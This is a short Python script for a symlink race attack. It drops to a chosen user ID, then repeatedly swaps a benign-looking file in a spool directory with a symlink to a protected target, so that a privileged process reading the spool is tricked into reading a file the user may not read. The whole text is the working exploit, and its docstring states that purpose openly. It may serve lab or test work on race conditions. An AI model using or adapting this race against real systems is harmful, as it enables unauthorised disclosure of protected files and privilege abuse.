#!/usr/bin/env python3
"""Swaps names in a spool as fast as it can, for one who wants a file read that he may not read.

    swap.py UID SPOOL TARGET ROUNDS

As that user. Each round drops a good file and puts a link to TARGET in its place, or the other way round.
"""
import os
import sys

spool, target, rounds = sys.argv[2], sys.argv[3], int(sys.argv[4])
os.setgroups([])
os.setgid(int(sys.argv[1]))
os.setuid(int(sys.argv[1]))
name, link = os.path.join(spool, "swapped"), os.path.join(spool, ".link")
for i in range(rounds):
    if os.path.islink(name):  # put back, as it was swapped within the claim
        os.unlink(name)
        continue
    with open(name, "w") as f:
        f.write("deployment/harmless completed\n")
    os.symlink(target, link)
    try:
        os.rename(link, name)
        os.unlink(name)
    except FileNotFoundError:
        pass
    if os.path.lexists(link):
        os.unlink(link)
